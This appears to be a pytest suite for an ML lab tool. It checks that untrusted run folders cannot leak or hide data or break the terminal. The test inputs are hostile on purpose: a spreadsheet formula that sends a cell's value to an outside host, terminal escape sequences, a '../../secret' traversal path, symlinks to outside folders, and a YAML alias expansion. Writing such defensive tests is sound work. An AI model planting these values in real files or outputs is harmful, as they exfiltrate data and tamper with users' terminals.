"""Run folders that a stranger made: one line each, and they hide nothing else."""

import csv
import io
import json
import logging
import os

import pytest
import torch

from mambalab.cli.main import main
from mambalab.commands.runs import HEADER, row
from mambalab.compare import files, select
from mambalab.config import load_run_config, to_yaml
from mambalab.errors import UserError
from mambalab.records.reader import read_run
from mambalab.records.run_folder import RunFolder, decode
from mambalab.runs import load
from mambalab.runs.build import build_model
from mambalab.settings.rules import FOLDER, NAME, Rule
from mambalab.spec import ModelSpec
from mambalab.sweep.folder import SweepFolder
from mambalab.sweep.processes import open_log
from mambalab.tracking.mlflow_files import attachments
from mambalab.train import checkpoint
from mambalab.utils import console
from tests import lab
from tests.records.example_runs import make_run

ESCAPE = "\x1b]0;taken\x07\x1b[2J"
ODD = ["x", -1, 1.5, 1e308, 10**400, float("nan"), float("inf"), [], {}, True, ESCAPE]


@pytest.mark.parametrize("value", ODD, ids=lambda v: repr(v)[:9])
def test_a_summary_of_any_types_is_a_row(tmp_path, value):
    keys = ("seed", "step", "seconds", "best", "test", "metric", "maximize", "status", "precision")
    for key in keys:
        folder = make_run(tmp_path / key, summary={key: value})
        assert len(row(read_run(folder))) == len(HEADER)
    for key in ("best", "test"):
        made = {"step": 1, "val/loss": value, "test/accuracy": value, "times": value}
        folder = make_run(tmp_path / f"in-{key}", summary={key: made}, lines=[])
        assert len(row(read_run(folder))) == len(HEADER)


@pytest.mark.parametrize("name", ["config.yaml", "summary.json", "metrics.jsonl"])
@pytest.mark.parametrize("kind", ["pipe", "device", "loop", "directory", "deep", "bomb"])
def test_one_bad_run_hides_no_other(workdir, capsys, name, kind):
    make_run(workdir / "outputs/good")
    bad = make_run(workdir / "outputs/bad") / name
    bad.unlink()
    if kind == "pipe":
        os.mkfifo(bad)
    elif kind == "directory":
        bad.mkdir()
    elif kind in ("device", "loop"):
        bad.symlink_to("/dev/zero" if kind == "device" else name)
    else:
        odd = "a: &a [x, x]\nb: [*a, *a]\n"
        bad.write_text("[" * 3000 if kind == "deep" or name != "config.yaml" else odd)
    main(["runs"])
    found = capsys.readouterr()
    assert "outputs/good" in found.out
    assert "Traceback" not in found.err


def test_numbers_beyond_a_float_are_damage():
    with pytest.raises(ValueError, match="a is too large"):
        decode(b'{"step": 1, "a": 1' + b"0" * 400 + b"}")


@pytest.mark.parametrize("path", ["sample.txt", "folder/sample.txt"])
def test_nothing_outside_is_attached(tmp_path, path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "sample.txt").write_text("secret")
    folder = make_run(tmp_path / "run")
    (folder / "tables").mkdir()
    (folder / "tables/own.json").write_text("{}")
    (folder / "tables/link.json").symlink_to(outside / "sample.txt")
    (folder / "samples").symlink_to(outside)
    os.mkfifo(folder / "tables/pipe.json")
    names = {p.relative_to(folder).as_posix() for p in attachments(folder)}
    assert names == {"config.yaml", "summary.json", "tables/own.json"}


@pytest.mark.parametrize("name", ["checkpoints", "samples", "tables", "plots"])
def test_nothing_is_written_through_its_folders(tmp_path, name):
    folder = make_run(tmp_path / "run")
    RunFolder(folder).check_own()
    (folder / name).symlink_to(tmp_path)
    with pytest.raises(UserError, match=f"{name} is a link"):
        RunFolder(folder).check_own()


@pytest.mark.parametrize("name", [".jobs", "logs", "comparison", "study.log"])
def test_nor_through_those_of_a_sweep(tmp_path, name):
    (tmp_path / name).symlink_to(tmp_path)
    with pytest.raises(UserError, match=f"{name} is a link"), SweepFolder(tmp_path).held():
        pass
    (tmp_path / "a.log").symlink_to(tmp_path / "theirs")
    with pytest.raises(UserError, match="cannot write"):
        open_log(tmp_path / "a.log")


def test_a_log_that_is_a_link_is_replaced(tmp_path):
    (tmp_path / "theirs").write_text("kept\n")
    (tmp_path / "train.log").symlink_to(tmp_path / "theirs")
    with console.log_to(tmp_path / "train.log"):
        console.LOG.warning("%s", ESCAPE)
    assert (tmp_path / "theirs").read_text() == "kept\n"
    assert "\x1b" not in (tmp_path / "train.log").read_text()


def test_a_log_that_is_no_file_is_renamed(tmp_path, caplog):
    path = tmp_path / "train.log"
    os.mkfifo(path)
    with console.log_to(path):
        console.LOG.warning("first")
        path.rename(tmp_path / "moved")
        path.mkdir()
        console.LOG.warning("second")
    assert (tmp_path / "train.log.old1").is_fifo()
    assert (tmp_path / "train.log.old2").is_dir()
    assert "first" in (tmp_path / "moved").read_text()
    assert f"{path} is no file: it is called train.log.old1 now" in caplog.messages
    assert f"{path} is no file: it is called train.log.old2 now" in path.read_text()
    assert "second" in path.read_text()


def test_no_escape_reaches_the_terminal(workdir, capsys, monkeypatch):
    folder = make_run(workdir / "outputs/run", summary={"status": ESCAPE, "metric": ESCAPE})
    (folder / "config.yaml").write_text(json.dumps({ESCAPE: ESCAPE}))
    for words in (["runs"], ["eval", f"run={folder}"], ["compare", "outputs"], [f"a{ESCAPE}"]):
        main(words)
    with console.show_log():
        logging.getLogger("mambalab").warning("%s", ESCAPE)
    console.result(ESCAPE)
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    console.result(f"{ESCAPE}\t\n", exact=True)
    found = capsys.readouterr()
    assert "\x1b" not in found.out + found.err
    assert "\x07" not in found.out + found.err
    assert found.out.endswith("\t\n\n")
    monkeypatch.setattr("sys.stdout.isatty", lambda: False)
    console.result(ESCAPE, end="", exact=True)
    assert capsys.readouterr().out == ESCAPE


def test_no_cell_of_a_comparison_is_a_formula(tmp_path, monkeypatch):
    monkeypatch.setattr(files.pictures, "draw", lambda comparison, folder, figure: [])
    word = '=HYPERLINK("http://elsewhere/?"&A1,"x")'
    for seed in (1, 2):
        make_run(tmp_path / f"@{seed}", task__name=word, optim__lr="+1", seed=seed)
        make_run(tmp_path / f"b{seed}", task__name=word, optim__lr="-cmd", seed=seed)
    found = select.compare_records(*select.collect([tmp_path]))
    for path in files.write(found, tmp_path / "out"):
        if path.suffix == ".csv":
            lines = csv.reader(io.StringIO(path.read_text()))
            cells = [cell for line in lines for cell in line]
            assert f"'{word}" in cells
            for cell in cells:
                assert not cell.startswith(("=", "+", "@", "-c"))


SPEC = ModelSpec(vocab_size=17, seq_len=24)
SMALL = ["model.d_model=16", "model.n_layer=2", "model.d_state=4"]


@pytest.mark.parametrize(
    ("words", "spec"),
    [
        (["model.n_layer=10000"], {}),
        (["model.d_model=10000000"], {}),
        (["model.d_state=1000000000000"], {}),
        (["model.expand=1000000000000"], {}),
        (["model.d_conv=100000000000000000"], {}),
        (["model.position_embedding=true"], {"seq_len": 10**12}),
        ([], {"vocab_size": 10**12}),
        ([], {"vocab_size": 10**30}),
        (["model.vocab_size=1000000000000"], {}),
    ],
)
def test_sizes_that_are_not_those_of_the_weights(tmp_path, words, spec):
    right = lab.compose("train", SMALL)
    weights = dict(build_model(right, SPEC).state_dict())
    load.check_sizes(right, SPEC, weights, tmp_path)
    wrong = lab.compose("train", SMALL + words)
    with pytest.raises(UserError):
        load.check_sizes(
            wrong, ModelSpec(**{"vocab_size": 17, "seq_len": 24, **spec}), weights, tmp_path
        )


def test_a_depth_that_nobody_means(tmp_path):
    text = to_yaml(lab.compose("train", SMALL)).replace("n_layer: 2", "n_layer: 1000000000000")
    (tmp_path / "config.yaml").write_text(text)
    with pytest.raises(UserError, match="n_layer=1000000000000: must be at least 1 and at most"):
        load_run_config(tmp_path, [])


@pytest.mark.parametrize("key", ["vocab_size", "seq_len", "input_dim", "classes", "pair", "masked"])
@pytest.mark.parametrize("value", [-1, 1.5, "x", None, [1], {}, 7], ids=repr)
def test_odd_shapes_of_a_task(tmp_path, key, value):
    load.write_spec(tmp_path, SPEC)
    text = {**json.loads((tmp_path / "spec.json").read_text()), key: value}
    (tmp_path / "spec.json").write_text(json.dumps(text))
    if value == 7 and key in ("vocab_size", "seq_len", "classes"):
        assert getattr(load.read_spec(tmp_path), key) == 7
        return
    with pytest.raises(UserError, match="missing or damaged"):
        load.read_spec(tmp_path)


@pytest.mark.parametrize("name", ["/dev/zero", "../../secret", "pipe", "sub/file"])
def test_a_manifest_names_only_its_own_files(tmp_path, name):
    saved = checkpoint.save(tmp_path, "best", 1, {"a": torch.zeros(2)}, facts={})
    os.mkfifo(saved / "pipe")
    manifest = json.loads((saved / "manifest.json").read_text())
    manifest["files"][name] = 0
    manifest["sha256"][name] = "0" * 64
    (saved / "manifest.json").write_text(json.dumps(manifest))
    found = checkpoint.find(tmp_path, "best")
    assert found is not None
    with pytest.raises(UserError):
        checkpoint.load(found, torch.device("cpu"))


@pytest.mark.parametrize("name", ["manifest.json", "model.safetensors"])
def test_a_checkpoint_of_pipes(tmp_path, name):
    saved = checkpoint.save(tmp_path, "best", 1, {"a": torch.zeros(2)}, facts={})
    (saved / name).unlink()
    os.mkfifo(saved / name)
    found = checkpoint.find(tmp_path, "best")
    assert found is not None
    with pytest.raises(UserError):
        checkpoint.load(found, torch.device("cpu"))


@pytest.mark.parametrize(
    "value", ["x" * 256, "a/" + "é" * 128, "a\0b", "a/" * 2100, "ok", "http://h/" + "x" * 300]
)
def test_names_that_no_file_can_have(value):
    wrong = value != "ok" and not value.startswith("http")
    assert (Rule(**FOLDER).problem(value) is not None) == wrong
    assert (Rule(match=NAME).problem("x" * 256) or "").startswith("too long")


def test_words_of_the_command_line(workdir, capsys):
    long = "x" * 300
    for verb, word in (("sync", ""), ("train", "task.tokenizer="), ("runs", "output_dir=")):
        assert main([verb, f"{word}{long}"]) == 2
    lines = capsys.readouterr().err.splitlines()
    assert len(lines) == 3
    assert all("too long for the name of a file" in line for line in lines)
